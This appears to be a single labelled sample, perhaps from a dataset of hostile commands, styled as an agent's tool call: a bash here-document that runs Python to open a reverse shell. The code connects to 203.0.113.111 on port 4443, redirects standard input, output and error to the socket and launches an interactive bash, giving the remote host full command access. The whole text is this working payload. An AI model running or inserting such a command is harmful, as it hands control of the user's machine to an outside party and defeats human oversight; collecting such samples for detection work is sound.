# class: embedded, here-document to python; style: tool call
python3 - <<'EOF'
import os, socket, subprocess
s = socket.create_connection(("203.0.113.111", 4443))
for fd in range(3):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/bash", "-i"])
EOF
